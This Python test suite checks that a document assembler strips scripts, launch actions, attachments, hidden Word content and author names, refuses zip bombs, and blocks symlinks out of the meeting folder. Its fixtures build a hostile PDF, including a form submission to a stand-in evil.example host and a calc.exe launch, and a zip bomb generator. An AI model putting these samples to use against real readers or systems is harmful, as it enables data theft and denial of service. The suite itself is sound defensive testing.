"""Partners' documents made safe to publish: no PDF action or script, attached file, hidden Word
content or author's name reaches a public output; a zip bomb is refused before anything unpacks it;
no file, picture included, is read through a link out of the meeting folder."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import partners
import pytest
from click.testing import CliRunner
from docx.oxml import parse_xml
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, TextStringObject
from test_partners import write_meeting

from assembler.build.options import BuildOptions
from assembler.build.progress import BuildResult
from assembler.build.run import build
from assembler.cli import main

MARK = "Activemark"  # in every script, attached file and XFA form of the hostile PDF
NAME = "Namesecret"  # in every property of the Word file that names someone
URI = "https://www.example.org/licensing-report"
ACTIVE_NAMES = re.compile(rb"/(JS|JavaScript|AA|OpenAction|Launch|SubmitForm|ImportData|ResetForm|Rendition|"
                          rb"GoToR|GoToE|EmbeddedFiles?|EF|FileAttachment|Screen|XFA)(?![A-Za-z0-9])")
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _script(code: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                             NameObject("/JS"): TextStringObject(f"app.alert('{MARK} {code}')")})


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    action.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return action


def _annotation(writer: PdfWriter, subtype: str, y: float, **entries: object) -> None:
    annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
                              NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (72, y, 300, y + 14))})
    annot.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    writer.pages[0].setdefault(NameObject("/Annots"), ArrayObject()).append(writer._add_object(annot))


def _stream(writer: PdfWriter, data: str) -> object:
    stream = DecodedStreamObject()
    stream.set_data(data.encode())
    return writer._add_object(stream)


def hostile_pdf() -> bytes:
    """A two-page PDF doing everything a PDF can do besides showing its pages, with a web link and a
    link to its second page that must survive, and a filled-in form field."""
    sheets = [partners.Sheet(words=partners.body_words(partners.A4, "Hostile")),
              partners.Sheet(words=partners.body_words(partners.A4, "Target"))]
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(partners.pdf(sheets, link_to=1, field_value="Quill"))))
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _script("page open"),
                                                NameObject("/C"): _script("page close")})
    text = TextStringObject
    for n, action in enumerate([
            _action("/URI", URI=text(URI)),
            _action("/JavaScript", JS=text(f"app.alert('{MARK} link')")),
            _action("/Launch", F=text("calc.exe")),
            _action("/SubmitForm", F=text("https://evil.example/submit")),
            _action("/ImportData", F=text("data.fdf")),
            _action("/ResetForm"),
            _action("/GoToR", F=text("other.pdf"), D=ArrayObject([FloatObject(0), NameObject("/Fit")])),
            _action("/GoToE", T=DictionaryObject({NameObject("/R"): NameObject("/C"), NameObject("/N"): text("x")})),
            _action("/URI", URI=text(f"javascript:app.alert('{MARK}')")),
            _action("/URI", URI=text("https://www.example.org/chained"), Next=_script("chained"))]):
        _annotation(writer, "/Link", 100 + 16 * n, A=action)
    _annotation(writer, "/Screen", 280, A=_action("/Rendition", JS=text(f"app.alert('{MARK} rendition')")))
    attached = DictionaryObject({NameObject("/F"): _stream(writer, f"{MARK} attached")})
    filespec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): text("secret.txt"),
                                 NameObject("/EF"): attached})
    _annotation(writer, "/FileAttachment", 300, FS=filespec)
    _annotation(writer, "/Text", 320, Contents=text("A reviewer's note, kept"), AA=DictionaryObject(
        {NameObject("/E"): _script("note")}))
    for annot in (a.get_object() for a in page["/Annots"]):
        if annot.get("/Subtype") == "/Widget":
            annot[NameObject("/AA")] = DictionaryObject({NameObject("/K"): _script("keystroke")})
            annot[NameObject("/A")] = _action("/ResetForm")
    writer.add_attachment("hidden.txt", f"{MARK} embedded".encode())
    writer._root_object["/Names"].get_object()[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([text("doc"), writer._add_object(_script("document"))])})
    writer._root_object[NameObject("/OpenAction")] = _script("open")
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _script("close")})
    writer._root_object["/AcroForm"].get_object()[NameObject("/XFA")] = _stream(writer, f"<xdp>{MARK} xfa</xdp>")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_people(data: bytes) -> bytes:
    """The Word file with its author, last editor, company and manager named."""
    source = io.BytesIO(data)
    document = docx.Document(source)
    document.core_properties.author = f"Alice {NAME}"
    document.core_properties.last_modified_by = f"Bob {NAME}"
    saved = io.BytesIO()
    document.save(saved)
    return rewritten(saved.getvalue(), "docProps/app.xml", lambda xml: xml.replace(
        b"<Manager/>", f"<Manager>Carol {NAME}</Manager>".encode()).replace(
        b"<Company/>", f"<Company>{NAME} Ltd</Company>".encode()))


def rewritten(data: bytes, part: str, change, extra: dict[str, bytes] | None = None) -> bytes:  # type: ignore[no-untyped-def]
    """A zip with one part changed, and any extra parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in source.namelist():
            copy.writestr(name, change(source.read(name)) if name == part else source.read(name))
        for name, content in (extra or {}).items():
            copy.writestr(name, content)
    return out.getvalue()


def uncompressed(pdf: Path) -> bytes:
    """The PDF's bytes with every stream unpacked, so that nothing in it hides from a search."""
    out = pdf.with_suffix(".qdf")
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(pdf), str(out)], check=True)
    return out.read_bytes()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    folder = write_meeting(tmp_path_factory.mktemp("hostile") / "m", [
        {"title": "Hostile", "paper": "hostile.pdf"},
        {"title": "Police report", "paper": "police.docx"},
    ], {"hostile.pdf": hostile_pdf(),
        "police.docx": with_people(partners.word("Police report", ["Burglary fell."]))})
    return build(folder, BuildOptions(folder.parent / "out"))


def public_pdfs(result: BuildResult) -> list[Path]:
    return [result.pack, *sorted((result.pack.parent / "items").glob("*.pdf"))]


def test_no_action_script_or_attached_file_reaches_the_pack_or_the_items(hostile):
    assert len(public_pdfs(hostile)) == 3
    for pdf in public_pdfs(hostile):
        data = uncompressed(pdf)
        assert MARK.encode() not in data, pdf.name
        assert b"javascript:" not in data.lower(), pdf.name
        assert ACTIVE_NAMES.findall(data) == [], pdf.name


def _links(page: object) -> list[DictionaryObject]:
    return [a.get_object() for a in page.get("/Annots", ArrayObject()) if a.get_object().get("/Subtype") == "/Link"]


def test_web_links_and_links_within_the_document_still_work(hostile):
    for pdf in public_pdfs(hostile)[:2]:  # the pack, and the hostile item's own PDF
        reader = PdfReader(pdf)
        first = next(n for n, page in enumerate(reader.pages) if "Hostile heading" in page.extract_text())
        links = _links(reader.pages[first])
        assert [str(a["/A"]["/URI"]) for a in links if "/A" in a] == [URI], pdf.name
        inside = [a for a in links if "/Dest" in a]
        assert len(inside) == 1
        target = reader.get_page_number(inside[0]["/Dest"][0].get_object())
        assert "Target heading" in reader.pages[target].extract_text()
        notes = [a for a in reader.pages[first].get("/Annots", []) if a.get_object().get("/Subtype") == "/Text"]
        assert len(notes) == 1  # a reviewer's note is kept, as the README says


def test_the_attached_files_and_the_names_in_word_properties_are_warned_of_without_the_names(hostile):
    warnings = [str(w) for w in hostile.warnings]
    assert any("'hostile.pdf': holds attached files; they were left out of the pack" in w for w in warnings)
    people = [w for w in warnings if "'police.docx': its properties name people" in w]
    assert len(people) == 1 and "author, last saved by, company, manager" in people[0]
    assert NAME not in "\n".join(warnings)


def test_the_published_word_copy_and_the_pdfs_name_no_one(hostile):
    copies = list((hostile.pack.parent / "papers").glob("*.docx"))
    assert len(copies) == 1
    with zipfile.ZipFile(copies[0]) as parts:
        assert all(NAME.encode() not in parts.read(name) for name in parts.namelist())
        assert b"Burglary fell." in parts.read("word/document.xml")
    for pdf in public_pdfs(hostile):
        assert NAME.encode() not in uncompressed(pdf), pdf.name


# Hidden content in a partner's Word file: each made with Word's own XML.

def _tracked(document: docx.document.Document) -> None:
    document.paragraphs[-1]._p.append(parse_xml(
        f'<w:ins {W} w:id="1" w:author="A" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Inserted</w:t></w:r></w:ins>'))


def _deleted(document: docx.document.Document) -> None:
    document.paragraphs[-1]._p.append(parse_xml(
        f'<w:del {W} w:id="2" w:author="A" w:date="2026-01-01T00:00:00Z">'
        '<w:r><w:delText>Gone</w:delText></w:r></w:del>'))


def _commented(document: docx.document.Document) -> None:
    paragraph = document.paragraphs[-1]
    document.add_comment(paragraph.runs, text="Do not publish this figure", author="Reviewer")


def _hidden(document: docx.document.Document) -> None:
    document.add_paragraph().add_run("Secret aside").font.hidden = True


HIDDEN = {
    "tracked insertion": (_tracked, "holds tracked changes; accept or reject them in Word and save it again: "
                                    "they would be published with it"),
    "tracked deletion": (_deleted, "holds tracked changes; accept or reject them in Word and save it again: "
                                   "they would be published with it"),
    "comment": (_commented, "holds comments; delete them in Word and save it again: they would be published with it"),
    "hidden text": (_hidden, "holds hidden text; delete it, or make it visible, in Word and save it again: "
                             "it would be published with it"),
    "embedded file": (None, "holds embedded files; delete them, or paste charts as pictures, in Word and save "
                            "it again: they would be published with it"),
}


def hidden_docx(kind: str | None) -> bytes:
    """A partner's Word file holding that kind of hidden content (None: none at all)."""
    change = HIDDEN[kind][0] if kind else None
    document = docx.Document(io.BytesIO(partners.word("Report", ["Burglary fell."])))
    document.core_properties.author = ""  # python-docx's own name, otherwise warned of as the author
    if change:
        change(document)
    saved = io.BytesIO()
    document.save(saved)
    if kind != "embedded file":
        return saved.getvalue()
    return rewritten(saved.getvalue(), "", bytes, {"word/embeddings/oleObject1.bin": b"an embedded workbook"})


def _item_line(folder: Path) -> int:
    lines = (folder / "meeting.yaml").read_text().splitlines()
    return next(n for n, line in enumerate(lines, 1) if line.lstrip().startswith("- "))


def _paper_line(folder: Path, name: str = "p.docx") -> int:
    lines = (folder / "meeting.yaml").read_text().splitlines()
    return next(n for n, line in enumerate(lines, 1) if line.endswith(f"paper: {name}"))


@pytest.mark.parametrize("kind", list(HIDDEN))
def test_hidden_content_in_a_public_paper_is_an_error_naming_the_file(kind, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder = write_meeting(tmp_path / "m", [{"paper": "p.docx", "title": "Report"}], {"p.docx": hidden_docx(kind)})
    result = CliRunner().invoke(main, ["check", "m"])
    assert result.exit_code == 1, result.output
    assert result.output.splitlines() == [f"m/meeting.yaml:{_paper_line(folder)}: 'p.docx': {HIDDEN[kind][1]}"]


@pytest.mark.parametrize("kind", list(HIDDEN))
def test_hidden_content_in_an_exempt_paper_is_only_a_warning(kind, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder = write_meeting(tmp_path / "m", [{"paper": "p.docx", "title": "Report", "exempt": 3}],
                           {"p.docx": hidden_docx(kind)})
    result = CliRunner().invoke(main, ["check", "m"])
    assert result.exit_code == 0, result.output
    what = HIDDEN[kind][1].split(" and save it again")[0]
    # told against the item, without naming the file: a build's warnings may be read in public
    assert result.output.splitlines()[0] == (f"m/meeting.yaml:{_item_line(folder)}: warning: item 1 (exempt): "
                                             f"its paper: {what} and save it again before the paper is made public")


# Zip bombs: refused from the zip's own directory, before python-docx or LibreOffice unpacks them.

def bomb(parts: int = 0) -> bytes:
    """A Word file that unpacks to 320 MB of zeros from a few hundred KB, or that holds `parts` empty parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(partners.word("Report", ["Text."]))) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in source.namelist():
            copy.writestr(name, source.read(name))
        for n in range(parts):
            copy.writestr(f"customXml/part{n}.xml", b"")
        if not parts:
            zeros = bytes(2**20)
            with copy.open("word/media/image1.png", "w") as big:
                for _ in range(320):
                    big.write(zeros)
    return out.getvalue()


@pytest.mark.parametrize(("parts", "message"), [
    (0, "it unpacks to 321 MB, far more than any Word document (256 MB at most); ask its author for a new "
        "copy, with smaller pictures"),
    (10_001, "it holds 10,018 parts, far more than any Word document (10,000 at most); ask its author for a "
             "new copy")])
def test_a_zip_bomb_is_refused_at_once_with_one_line(parts, message, tmp_path):
    folder = write_meeting(tmp_path / "m", [{"paper": "bomb.docx", "title": "Report"}], {"bomb.docx": bomb(parts)})
    assert (folder / "bomb.docx").stat().st_size < 4 * 2**20
    result = subprocess.run([sys.executable, "-m", "assembler", "build", "m", "--output", "out"], cwd=tmp_path,
                            capture_output=True, text=True, timeout=10, check=False)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [f"m/meeting.yaml:{_paper_line(folder, 'bomb.docx')}: 'bomb.docx': {message}"]
    assert not (tmp_path / "out" / "m").exists()


# Links out of the meeting folder, pictures included.

def _picture(path: Path) -> Path:
    Image.new("RGB", (40, 20), "red").save(path)
    return path


def test_a_picture_linked_from_outside_the_meeting_folder_is_refused(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    outside = _picture(tmp_path / "outside.png")
    folder = write_meeting(tmp_path / "m", [{"paper": "p.md", "title": "Report"}], {
        "p.md": b"---\ntitle: Report\n---\n\nText.\n\nA chart ![chart](pic.png) and\n"
                b"on the next line ![chart](sub/deep.png) too.\n\n![up](../outside.png)\n\n"
                + f"![absolute]({outside})\n\n![ok](own.png)\n".encode()})
    (folder / "pic.png").symlink_to(outside)
    (folder / "sub").mkdir()
    (folder / "sub" / "deep.png").symlink_to(outside)
    _picture(folder / "own.png")
    for command in (["check", "m"], ["build", "m", "--output", "out"]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 1, result.output
        assert [line for line in result.output.splitlines() if not line.startswith("  ")] == [
            "m/p.md:7: 'pic.png': a link that leaves the meeting folder",
            "m/p.md:8: 'sub/deep.png': a link that leaves the meeting folder",
            "m/p.md:10: '../outside.png': name a file inside the meeting folder, not a path out of it",
            f"m/p.md:12: '{outside}': name a file inside the meeting folder, not a path out of it"]
    assert not (tmp_path / "out").exists()
